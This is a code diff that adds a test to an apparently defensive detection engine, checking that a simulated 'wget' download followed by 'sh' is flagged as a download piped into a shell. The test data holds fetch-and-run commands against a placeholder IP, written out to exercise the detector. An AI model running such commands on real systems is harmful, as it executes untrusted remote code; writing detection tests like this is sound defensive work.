@@ -62,6 +62,16 @@ def test_curl_piped_into_sh_captured_as_two_processes_alerts_as_one_incident(eng
     assert verdicts[0].incident_score == verdicts[1].incident_score >= verdicts[1].score
 
 
+def test_a_download_that_names_no_file_is_read_as_feeding_the_shell_it_started_with(engine):
+    """`wget URL | sh`: the file wget saves is named after the URL, but the command names none, so the pipe
+    is read as the attempt it is, as `wget -qO- URL | sh` would be."""
+    session = Session()
+    wget = session.exec("wget -q http://203.0.113.9/x.sh", 100, "bash")
+    sh = session.exec("sh", 100, "bash", gap=0.001)
+    verdict = _score(engine, [wget, sh])[1]
+    assert any("download piped into sh" in r for r in verdict.reasons), verdict.reasons
+
+
 def test_pipe_identities_link_a_pipe_whatever_the_timing(engine):
     session = Session()
     wget = session.exec("wget -qO- http://203.0.113.9/x", 100, "bash", stdout="pipe:4242", stdin="tty")
